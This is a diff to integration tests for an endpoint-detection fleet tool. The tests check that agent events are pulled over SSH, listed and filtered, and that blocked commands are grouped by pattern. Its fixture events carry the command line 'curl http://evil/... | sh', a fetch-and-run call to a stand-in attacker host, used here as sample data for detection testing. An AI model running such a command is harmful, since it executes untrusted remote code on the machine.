@@ -29,6 +29,7 @@ from edrfleet.agent.status import Status, write_status
 from edrfleet.fleet.deploy.release import build_release
 from edrfleet.fleet.report.backends import open_store
 from edrfleet.fleet.report.pull import pull_hosts
+from edrfleet.fleet.report.queries import command_pattern
 from edrfleet.fleet.transport.ssh import SshTransport
 from tests.unit.helpers.postgres_server import empty_store, postgres_server
 
@@ -180,6 +181,47 @@ def test_an_unreachable_host_is_reported_while_the_others_are_pulled(lab_hosts, 
     assert len(stored_ids(db)) == 60
 
 
+def events_cmd(lab: ReportLab, db: Path, *extra: str) -> tuple[int, str, str]:
+    p = subprocess.run([*EDRFLEET, "events", str(lab.inventory), "--db", str(db), *extra],
+                       capture_output=True, text=True, timeout=300)
+    return p.returncode, p.stdout, p.stderr
+
+
+def test_events_pulls_then_lists_and_filters_what_the_hosts_wrote(report_lab, tmp_path):
+    """`edrfleet events` over SSH: it pulls first (like report), then lists the stored events
+    newest first, filtered by host pattern, action, rule, time and command-line text."""
+    a, b, c = report_lab.names
+    who = {"user.name": "alice", "process.parent.executable": "/usr/bin/bash",
+           "process.working_directory": "/srv/app"}
+    for n in report_lab.names:
+        with report_lab.spool(n) as s:
+            s.append([ecs.nest(ecs.flatten(event(n, i, ("blocked", "would_block", "logged")[i % 3],
+                                                 cmd=f"curl http://evil/{n}/{i} | sh"
+                                                 if i % 5 == 0 else None)) | {
+                "@timestamp": f"2026-12-01T05:{i:02d}:00.000000Z", **who})
+                for i in range(30)])
+    db = tmp_path / "report.db"
+    rc, out, err = events_cmd(report_lab, db, "--format", "json", "-n", "0")
+    assert rc == 0, err
+    rows = json.loads(out)
+    assert len(rows) == 90  # pulled over SSH first: every host's events
+    assert [r["time"] for r in rows] == sorted((r["time"] for r in rows), reverse=True)
+    assert {(r["user"], r["parent"], r["working_directory"]) for r in rows} == {
+        ("alice", "/usr/bin/bash", "/srv/app")}
+    rc, out, err = events_cmd(report_lab, db, "--no-pull", "--format", "json", "-l", b,
+                              "--action", "would_block", "--search", "CURL HTTP://EVIL",
+                              "--since", "2026-12-01T05:11:00Z")
+    assert rc == 0, err
+    assert [r["id"] for r in json.loads(out)] == [f"{b}-000025"]  # i % 3 == 1, i % 5 == 0
+    rc, out, err = events_cmd(report_lab, db, "--no-pull", "--format", "ndjson", "-l",
+                              f"{a}:{c}", "--rule", "lab-canary", "-n", "4")
+    assert rc == 0 and "more match" in err
+    lines = out.splitlines()
+    assert len(lines) == 4 and {ecs.get(json.loads(x), ecs.HOST) for x in lines} <= {a, c}
+    rc, out, err = events_cmd(report_lab, db, "--no-pull", "-l", a, "--rule", "none")
+    assert rc == 0 and "0 events" in out
+
+
 def test_status_json_reaches_the_summary(report_lab, tmp_path) -> None:
     name = report_lab.names[0]
     report_lab.spool(name).close()
@@ -315,8 +357,11 @@ def test_report_shows_what_deployed_agents_blocked(lab_hosts, deployed, tmp_path
     rules = {r["rule"]: r for r in summary["rules"]}
     assert rules["lab-canary"]["severity"] == "critical"
     assert rules["lab-canary"]["blocked"] >= 2 * len(lab_hosts.names)
-    top = {c["command_line"] for c in summary["top_blocked"]}
-    assert {c for cs in cmds.values() for c in cs} <= top
+    # the canaries' variants grouped by pattern, each line with one of them as its example
+    top = {c["pattern"]: c for c in summary["top_blocked"] if c["rule"] == "lab-canary"}
+    assert {command_pattern(c) for cs in cmds.values() for c in cs} <= set(top)
+    assert all(command_pattern(c["command_line"]) == p for p, c in top.items())
+    assert sum(c["count"] for c in top.values()) >= 2 * len(lab_hosts.names)
     rc, again, err = report(lab, db, out)  # nothing new was blocked: nothing new is counted
     assert rc == 0 and again["totals"]["blocked"] == summary["totals"]["blocked"]
 
